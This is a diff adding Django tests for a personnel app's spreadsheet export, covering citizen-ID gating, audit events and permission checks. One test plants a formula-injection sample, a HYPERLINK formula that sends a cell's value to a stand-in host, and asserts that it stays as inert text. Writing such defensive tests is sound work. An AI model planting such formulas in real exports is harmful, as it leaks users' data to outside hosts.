@@ -13,7 +13,9 @@ from openpyxl import load_workbook
 from tochuc.accounts.models import Role
 from tochuc.audit.models import AuditEvent
 from tochuc.conftest import login, make_user
+from tochuc.orgunits.models import OrgUnit
 from tochuc.people import views
+from tochuc.people.models import Person
 from tochuc.people.services import person_create
 
 pytestmark = pytest.mark.django_db
@@ -161,20 +163,86 @@ def test_export_without_reveal_permission_has_no_citizen_id_column(tree, people)
     assert event.summary == {"filters": {"q": "nguyen"}, "rows": 1, "citizen_id": False}
 
 
-def test_export_has_citizen_id_only_when_every_row_may_be_revealed(people, tree, leader):
-    client = login(leader)  # sees and may reveal the people of one commune
-    rows = list(_workbook(client.get(reverse("people:export"))).iter_rows(values_only=True))
-    assert "Số CCCD" in rows[0]
-    assert CIDS[0] in [r[rows[0].index("Số CCCD")] for r in rows[1:]]
+def _headers(response):
+    return next(_workbook(response).iter_rows(values_only=True))
+
+
+def test_export_leaves_the_citizen_id_column_out_by_default(people, leader):
+    response = login(leader).get(reverse("people:export"))  # may reveal the people of one commune
+    rows = list(_workbook(response).iter_rows(values_only=True))
+    assert "Số CCCD" not in rows[0] and len(rows) == 3
+    assert all(cid not in str(v) for row in rows for v in row for cid in CIDS)
+    event = AuditEvent.objects.get(action="person.export")
+    assert event.summary == {"filters": {}, "rows": 2, "citizen_id": False}
+
+
+def test_export_with_citizen_ids_asks_a_reason_and_is_audited_like_a_reveal(people, tree, leader):
+    client = login(leader)
+    page = client.get(reverse("people:list")).content.decode()
+    assert 'data-testid="export-cid"' in page
+    refused = client.post(reverse("people:export"), {"reason": "x"}, follow=True)
+    assert "Cần ghi rõ lý do" in refused.content.decode()
+    assert not AuditEvent.objects.filter(action__startswith="person.export").exists()
+    reason = "Đối chiếu hồ sơ chuyển sinh hoạt đảng"
+    response = client.post(reverse("people:export"), {"reason": reason})
+    rows = list(_workbook(response).iter_rows(values_only=True))
+    column = rows[0].index("Số CCCD")
+    assert sorted(r[column] for r in rows[1:]) == sorted(CIDS[:2])
+    event = AuditEvent.objects.get(action="person.export_citizen_ids")
+    assert event.actor_id == leader.pk
+    assert event.summary == {
+        "filters": {},
+        "rows": 2,
+        "citizen_id": True,
+        "citizen_ids": 2,
+        "reason": reason,
+    }
+    assert not AuditEvent.objects.filter(action="person.export").exists()
+
+
+def test_export_with_citizen_ids_only_when_every_row_may_be_revealed(people, tree):
     # A viewer of the province who also leads one commune may not reveal the other commune's people.
     mixed = make_user("mixed", Role.VIEWER, tree.province)
     from tochuc.accounts.services import grant_role
 
     grant_role(actor=None, user=mixed, role=Role.LEADER, unit=tree.commune)
-    rows = list(_workbook(login(mixed).get(reverse("people:export"))).iter_rows(values_only=True))
-    assert "Số CCCD" not in rows[0] and len(rows) == 4
-    narrowed = login(mixed).get(reverse("people:export"), {"unit": tree.commune.code})
-    assert "Số CCCD" in next(_workbook(narrowed).iter_rows(values_only=True))
+    client = login(mixed)
+    reason = {"reason": "Rà soát danh sách dự bị"}
+    refused = client.post(reverse("people:export"), reason, follow=True)
+    assert "Bạn không được xem số CCCD của mọi người" in refused.content.decode()
+    assert not AuditEvent.objects.filter(action__startswith="person.export").exists()
+    narrowed = client.post(reverse("people:export") + f"?unit={tree.commune.code}", reason)
+    assert "Số CCCD" in _headers(narrowed)
+    assert AuditEvent.objects.get(action="person.export_citizen_ids").summary["citizen_ids"] == 2
+
+
+def test_a_viewer_is_not_offered_the_citizen_id_export(people, tree):
+    viewer = make_user("viewer", Role.VIEWER, tree.province)
+    client = login(viewer)
+    assert 'data-testid="export-cid"' not in client.get(reverse("people:list")).content.decode()
+    refused = client.post(reverse("people:export"), {"reason": "Đối chiếu hồ sơ"}, follow=True)
+    assert "Bạn không được xem số CCCD" in refused.content.decode()
+    assert not AuditEvent.objects.filter(action__startswith="person.export").exists()
+
+
+def test_export_keeps_formula_like_text_as_text(tree, inside):
+    hyperlink = '=HYPERLINK("http://x?d="&A2,"y")'
+    OrgUnit.objects.filter(pk=tree.cell.pk).update(name="=1+1")
+    person = _person(tree.cell, "F1", "Phạm Văn Phú", dt.date(1990, 1, 1), ethnicity="@x")
+    Person.objects.filter(pk=person.pk).update(
+        current_post=hyperlink, professional_qualification="+1", residence="-2"
+    )
+    response = login(inside).get(reverse("people:export"))
+    sheet = _workbook(response)
+    header = [cell.value for cell in sheet[1]]
+    row = {header[i]: cell for i, cell in enumerate(sheet[2])}
+    assert row["Đơn vị"].value == "=1+1"
+    assert row["Chức vụ hiện tại"].value == hyperlink
+    assert row["Trình độ chuyên môn"].value == "+1"
+    assert row["Dân tộc"].value == "@x"
+    for name in ("Đơn vị", "Chức vụ hiện tại", "Trình độ chuyên môn", "Dân tộc"):
+        assert row[name].data_type == "s", name
+    assert not [cell.coordinate for line in sheet.iter_rows() for cell in line if cell.data_type == "f"]
 
 
 def test_export_above_the_cap_is_refused_with_a_message(people, inside, monkeypatch):
